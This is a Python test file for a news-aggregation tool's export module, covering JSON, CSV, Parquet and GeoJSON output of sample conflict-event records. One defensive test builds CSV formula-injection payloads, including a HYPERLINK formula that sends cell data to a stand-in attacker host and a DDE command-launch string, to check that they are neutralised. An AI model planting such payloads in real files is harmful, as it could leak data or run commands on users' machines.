import csv
import io
import json

import pyarrow.parquet as pq
import pytest

from newsfuse.export import export, export_snapshot, flat_columns, flat_rows, rows
from newsfuse.export.formats import to_csv
from tests.export.sample_records import FakeStore, sample_snapshot

SNAP = sample_snapshot()


def test_document_rows_carry_the_design_contract_fields():
    doc = {r["id"]: r for r in rows(SNAP, "documents")}["bbbb000000000002"]
    for key in ("id", "source", "url", "outlet", "title", "byline", "published", "published_precision",
                "text", "origins", "origin_group", "near_duplicate_of", "story", "removed_count"):
        assert key in doc
    assert doc["published"] == "2014-06-18"
    assert doc["origins"] == ["Reuters"]
    assert doc["near_duplicate_of"] == "aaaa000000000001"
    assert doc["origin_group"] == "aaaa000000000001"
    assert doc["story"] == "st01"
    assert doc["removed_count"] == 2


def test_copy_rows_say_which_side_is_the_original():
    (row,) = rows(SNAP, "copies")
    assert row["direction"] == "a->b" and row["original"] == row["a"]
    assert row["passages"][0].keys() == {"a_start", "a_end", "b_start", "b_end"}


def test_event_rows_list_fatality_reports_per_document_and_contradictions():
    ev = rows(SNAP, "events")[0]
    assert ev["place"]["lat"] == pytest.approx(35.3261)
    assert ev["fatalities"]["reports"][2] == {"value": 17, "document": "cccc000000000003"}
    assert ev["contradictions"][0]["values"][1] == {"value": 17, "documents": ["cccc000000000003"]}
    assert ev["independent_sources"] == ["Reuters", "Kirkuk Herald"]


def test_story_rows_count_their_events():
    assert [(s["id"], s["events"]) for s in rows(SNAP, "stories")] == [("st01", 1), ("st02", 1)]


def test_json_export_round_trips_through_json_loads():
    body, note = export_snapshot(SNAP, "events", "json")
    assert note is None
    assert [e["id"] for e in json.loads(body)] == ["ev01", "ev02"]


def test_events_csv_is_flat_with_latitude_longitude_and_fatalities_columns():
    body, _ = export_snapshot(SNAP, "events", "csv")
    first = next(csv.DictReader(io.StringIO(body.decode())))
    assert first["actors"] == "Gunmen;Iraqi police"
    assert (first["location"], first["latitude"], first["longitude"]) == ("Hawija", "35.3261", "43.7728")
    assert (first["country"], first["country_code"], first["admin1"]) == ("Iraq", "IQ", "Kirkuk")
    assert (first["fatalities"], first["fatalities_low"], first["fatalities_high"]) == ("16", "15", "17")
    assert (first["contradictions"], first["contested"]) == ("1", "fatalities")


def test_copy_passages_are_nested_as_json_in_a_csv_cell():
    body, _ = export_snapshot(SNAP, "copies", "csv")
    first = next(csv.DictReader(io.StringIO(body.decode())))
    assert json.loads(first["passages"])[0]["a_start"] >= 0


def test_csv_of_no_rows_is_empty_not_an_error():
    assert to_csv([]) == b"\n"


def test_parquet_types_days_as_dates_and_lists_as_lists():
    import datetime

    import pyarrow as pa

    body, _ = export_snapshot(SNAP, "events", "parquet")
    table = pq.read_table(io.BytesIO(body))
    assert table.num_rows == 2
    assert table.schema.field("date").type == pa.date32()
    assert table.column("date").to_pylist()[0] == datetime.date(2014, 6, 17)
    assert table.column("latitude").to_pylist()[0] == 35.3261
    assert table.column("actors").to_pylist()[0] == ["Gunmen", "Iraqi police"]
    docs = pq.read_table(io.BytesIO(export_snapshot(SNAP, "documents", "parquet")[0]))
    assert docs.schema.field("published").type == pa.date32()


def test_contradictions_table_has_one_row_per_competing_value_in_every_format():
    data = rows(SNAP, "contradictions")
    assert [(r["field"], r["value"], r["reported_by"]) for r in data] == [
        ("fatalities", "15", ["Wire Daily", "Republisher"]), ("fatalities", "17", ["Kirkuk Herald"])]
    for fmt in ("json", "csv", "parquet", "geojson"):
        body, _ = export_snapshot(SNAP, "contradictions", fmt)
        assert body, fmt
    fc = json.loads(export_snapshot(SNAP, "contradictions", "geojson")[0])
    assert [f["properties"]["value"] for f in fc["features"]] == ["15", "17"]
    first = next(csv.DictReader(io.StringIO(export_snapshot(SNAP, "contradictions", "csv")[0].decode())))
    assert (first["event"], first["date"], first["location"]) == ("ev01", "2014-06-17", "Hawija")


def test_geojson_puts_longitude_first_and_counts_events_without_coordinates():
    body, note = export_snapshot(SNAP, "events", "geojson")
    fc = json.loads(body)
    assert fc["type"] == "FeatureCollection"
    (feature,) = fc["features"]
    assert feature["geometry"]["coordinates"] == [43.7728, 35.3261]
    assert feature["properties"]["type"] == "Battles"
    assert feature["properties"]["fatalities"] == 16 and feature["properties"]["date"] == "2014-06-17"
    assert note is not None and note.startswith("1 of 2 events")


def test_geojson_of_documents_is_refused_with_a_reason():
    with pytest.raises(ValueError, match="events, mentions or contradictions"):
        export_snapshot(SNAP, "documents", "geojson")


def test_unknown_table_is_refused_with_the_choices():
    with pytest.raises(ValueError, match="documents, copies"):
        export_snapshot(SNAP, "people", "json")


def test_export_writes_to_stdout_when_no_file_is_given(capsysbinary):
    assert export(FakeStore(), "stories", "json", None) is None
    assert json.loads(capsysbinary.readouterr().out)[0]["title"] == "Checkpoint attack near Hawija"


def test_export_writes_the_file_and_notes_missing_coordinates_on_stderr(tmp_path, capsys):
    out = export(FakeStore(), "mentions", "geojson", tmp_path / "m.geojson")
    assert len(json.loads(out.read_text())["features"]) == 2
    assert "1 of 3 mentions have no coordinates" in capsys.readouterr().err


def test_parquet_to_stdout_is_refused():
    with pytest.raises(ValueError, match="output file"):
        export(FakeStore(), "events", "parquet", None)


def test_an_empty_table_still_exports_its_header_and_schema():
    from newsfuse.export import Snapshot

    body, _ = export_snapshot(Snapshot(), "events", "csv")
    assert body.decode().startswith("id,story,type,sub_type,date,date_end,date_precision,location,latitude,longitude,")
    body, _ = export_snapshot(Snapshot(), "documents", "parquet")
    table = pq.read_table(io.BytesIO(body))
    assert table.num_rows == 0 and "near_duplicate_of" in table.column_names


def test_column_lists_match_the_rows_they_head():
    from newsfuse.export import columns

    for table in ("documents", "copies", "stories", "events", "mentions", "briefs", "contradictions"):
        data = rows(SNAP, table)
        assert list(data[0]) == columns(table), table
        flat = flat_rows(SNAP, table)
        assert list(flat[0]) == flat_columns(table), table


@pytest.mark.parametrize("table", ["documents", "stories", "events"])
def test_csv_cells_that_would_run_as_formulas_are_neutralised_in_every_table(table):
    from dataclasses import replace

    hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    snap = sample_snapshot()
    docs = tuple(replace(d, title=hostile, outlet="@SUM(1+1)") for d in snap.documents)
    stories = tuple(replace(s, title="+cmd|' /C calc'!A0") for s in snap.stories)
    events = tuple(replace(e, actors=("-2+3", *e.actors)) for e in snap.events)
    snap = replace(snap, documents=docs, stories=stories, events=events)
    body, _ = export_snapshot(snap, table, "csv")
    cells = [c for row in csv.reader(io.StringIO(body.decode())) for c in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "@") or (c[:1] == "-" and not c[1:].replace(".", "").isdigit())]
    assert any(c.startswith("'") for c in cells)


def test_event_json_carries_injured_like_fatalities_and_a_label_naming_the_event():
    from dataclasses import replace

    from newsfuse.records import Fatalities

    snap = sample_snapshot()
    first = snap.events[0]
    hurt = Fatalities(3, 4, 4, ((3, first.documents[0]), (4, first.documents[-1])))
    snap = replace(snap, events=(replace(first, injured=hurt), *snap.events[1:]))
    row = rows(snap, "events")[0]
    assert row["injured"] == {"low": 3, "best": 4, "high": 4, "reports": [
        {"value": 3, "document": first.documents[0]}, {"value": 4, "document": first.documents[-1]}]}
    assert row["label"] == first.label and first.place.name in row["label"]
    assert flat_rows(snap, "events")[0]["injured"] == 4


def test_contradiction_rows_name_their_event_by_type_place_and_date():
    contested = next(e for e in SNAP.events if e.contradictions)
    labels = {r["event_label"] for r in flat_rows(SNAP, "contradictions") if r["event"] == contested.id}
    assert labels == {contested.label}
